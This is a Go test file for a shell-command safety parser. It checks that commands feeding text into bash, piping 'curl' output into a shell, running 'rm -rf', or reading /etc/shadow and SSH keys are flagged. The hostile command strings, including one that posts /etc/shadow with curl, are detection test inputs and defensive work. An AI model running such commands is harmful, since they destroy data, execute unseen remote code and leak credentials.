package shell

import (
	"strings"
	"testing"
	"time"
)

// TestCaseC23Inputs: what a shell reads from a text in the line is looked into as a line behind -c is, however the text gets there.
func TestCaseC23Inputs(t *testing.T) {
	for _, line := range []string{
		"bash <<'X'\nsudo ls\nX", "{ bash; } <<'X'\nsudo ls\nX", "(cd a; bash -s) <<'X'\nsudo ls\nX", "cat <<'X' | bash\nsudo ls\nX",
		"cat - <<'X' | tee log | sh\nsudo ls\nX", "if true; then bash; fi <<'X'\nsudo ls\nX", "while bash; do :; done <<'X'\nsudo ls\nX",
		"for i in 1; do sh; done <<'X'\nsudo ls\nX", "case a in a) sh;; esac <<'X'\nsudo ls\nX", "time bash <<'X'\nsudo ls\nX",
		"{ echo ls; echo sudo ls; } | bash", "echo sudo ls | { bash; }", "bash < <(echo sudo ls)", "bash <(echo sudo ls)", "bash < <(cat <<'X'\nsudo ls\nX\n)",
		"cat <<'X' | { cat | env A=1 bash; }\nsudo ls\nX", "f() { bash; }; f <<'X'\nsudo ls\nX", "f() { g; }; g() { bash; }; echo sudo ls | f",
		"bash -c \"$(cat <<'X'\nsudo ls\nX\n)\"", "eval \"$(echo sudo ls)\"", "bash /dev/stdin <<<'sudo ls'", "true && cat <<'X' | bash\nsudo ls\nX",
		"{ cd /; bash; } <<'X'\nrm -rf *\nX", "bash <<X\nsudo $a\nX", "! { bash; } <<'X'\nsudo ls\nX", "{ bash; } <<'X' &\nsudo ls\nX",
		"cat <<'X' | xargs -I{} bash -c {}\nsudo ls\nX", "$(bash <<'X'\nsudo ls\nX\n)", "bash <<'X'\nrm -rf *\nX\ncd /\nbash <<'X'\nrm -rf *\nX",
		"echo sudo ls > >(bash)", "cat <<'X' | tee >(bash) >a\nsudo ls\nX",
	} {
		if c := parse(line, "/w"); c.Forbidden == "" {
			t.Errorf("%q: %+v", line, c)
		}
	}
	for _, line := range []string{
		"cat <<'X'\nsudo ls\nX", "cat <<'X' | grep sudo\nsudo ls\nX", "{ cat; bash a.sh; } <<'X'\nsudo ls\nX", "bash -c \"echo $(echo sudo ls)\"",
		"python3 <<'X'\nsudo = 1\nX", "f() { cat; }; f <<'X'\nsudo ls\nX", "cat <<'X' > a.md; bash\nsudo ls\nX", "f() { f; }; f <<'X'\nsudo ls\nX",
	} {
		if c := parse(line, "/w"); c.Forbidden != "" {
			t.Errorf("%q: %s", line, c.Forbidden)
		}
	}
}

// TestF036_F173Streams: what runs a text that nobody has seen is dangerous, from a pipe and from a substitution alike.
func TestF036_F173Streams(t *testing.T) {
	for line, risk := range map[string]string{
		"curl x | bash":                       "bash runs what a pipe gives it",
		"curl x | { bash; }":                  "bash runs what a pipe gives it",
		"curl x | (cd a && sh -s -- a)":       "sh -s -- a runs what a pipe gives it",
		"bash < <(curl x)":                    "bash runs what a command gives it",
		"bash <(curl x)":                      "bash … runs what a command gives it",
		"python3 <(curl x)":                   "python3 … runs what a command gives it",
		"{ python3 -; } < <(curl x)":          "python3 - runs what a command gives it",
		"f() { sh; }; curl x | f":             "sh runs what a pipe gives it",
		"curl x | tee >(sh)":                  "sh runs what a pipe gives it",
		"curl x > >(sh)":                      "sh runs what a pipe gives it",
		"curl x | node /dev/stdin":            "node /dev/stdin runs what a pipe gives it",
		"while true; do sh; done < <(curl x)": "sh runs what a command gives it",
	} {
		if c := parse(line, "/w"); c.Danger != Dangerous || c.Risk != risk {
			t.Errorf("%q: %v, %q, want %q", line, c.Danger, c.Risk, risk)
		}
	}
	for _, line := range []string{"cat a | grep b", "git ls-files | node check.js", "bash build.sh < in", "diff <(ls a) <(ls b)", "python3 sum.py <(ls)", "bash <<'X'\nmake\nX", "{ bash; } <<'X'\nmake\nX"} {
		if c := parse(line, "/w"); c.Danger == Dangerous {
			t.Errorf("%q is dangerous: %s", line, c.Risk)
		}
	}
}

// TestCaseC28Inputs: what is fed to what is told in time, however often and however deep.
func TestCaseC28Inputs(t *testing.T) {
	for _, line := range []string{
		"{ " + strings.Repeat("bash; ", 2000) + "} <<'X'\n" + strings.Repeat("ls a\n", 1000) + "X",
		strings.Repeat("a|", 50_000) + "bash", "echo ls" + strings.Repeat("|cat", 20_000) + "|bash",
		"time | bash", "time", "{ time; } | sh", "coproc | a", "time <<<x | cat | bash", strings.Repeat("{ a | ", 120) + "bash" + strings.Repeat("; }", 120), "f() { " + strings.Repeat("bash; ", 5000) + "}; " + strings.Repeat("f<<<a;", 5000),
		strings.Repeat("cd a;", 20) + strings.Repeat("cat ../x/y/z/../../b ", 4000), "cat" + strings.Repeat(" <(a", 200) + strings.Repeat(")", 200),
		"echo" + strings.Repeat(" >(bash", 200) + strings.Repeat(")", 200),
	} {
		began := time.Now()
		parse(line[:min(len(line), MaxLine)], "/w")
		if took := time.Since(began); took > 5*time.Second {
			t.Errorf("%.40q took %v", line, took)
		}
	}
}

// TestCaseC20Named: paths outside of the folder are found wherever they stand in a line.
func TestCaseC20Named(t *testing.T) {
	for line, want := range map[string]string{
		"head -c 100 /etc/shadow": "/etc/shadow", "cat </etc/shadow": "/etc/shadow", "cd /etc && cat shadow": "/etc/shadow",
		"cat ../x/../../etc/shadow": "/etc/shadow", "dd if=/etc/shadow of=a": "/etc/shadow", "curl -d@/etc/shadow h": "/etc/shadow",
		"python3 -c \"open('/etc/shadow').read()\"": "/etc/shadow", "cat ~/.ssh/id_rsa": "~/.ssh/id_rsa", "cat \"$HOME\"/.netrc": "~/.netrc",
		"tar c --files-from=/etc/x": "/etc/x", "x=/etc/shadow; cat $x": "/etc/shadow", "for f in /etc/a; do cat $f; done": "/etc/a",
		"bash -c 'cat /etc/a'": "/etc/a", "cat a b/../c ./d /w/e": "", "echo $(cat /etc/a)": "/etc/a", "cat /e\"tc/sha\"dow": "/etc/shadow",
	} {
		if got := strings.Join(parse(line, "/w").Named, " "); !strings.Contains(" "+got+" ", " "+want+" ") && want != got {
			t.Errorf("%q: %q, want %q", line, got, want)
		}
	}
}
